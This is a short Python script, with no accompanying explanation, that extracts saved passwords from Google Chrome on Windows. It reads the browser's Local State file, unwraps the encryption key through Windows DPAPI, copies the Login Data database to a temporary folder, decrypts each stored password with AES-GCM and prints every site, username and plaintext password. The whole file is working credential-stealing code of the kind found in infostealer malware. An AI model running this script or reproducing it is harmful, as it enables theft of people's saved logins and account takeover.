import base64
import json
import os
import shutil
import sqlite3

import win32crypt
from Crypto.Cipher import AES

LOCAL = os.environ["LOCALAPPDATA"]
PROFILE = os.path.join(LOCAL, "Google", "Chrome", "User Data")


def master_key():
    with open(os.path.join(PROFILE, "Local State"), encoding="utf-8") as handle:
        state = json.loads(handle.read())
    key = base64.b64decode(state["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]


def passwords(key):
    copy = os.path.join(os.environ["TEMP"], "ld.db")
    shutil.copy2(os.path.join(PROFILE, "Default", "Login Data"), copy)
    rows = sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins")
    for url, user, secret in rows:
        cipher = AES.new(key, AES.MODE_GCM, secret[3:15])
        yield url, user, cipher.decrypt(secret[15:])[:-16]


for row in passwords(master_key()):
    print(row)
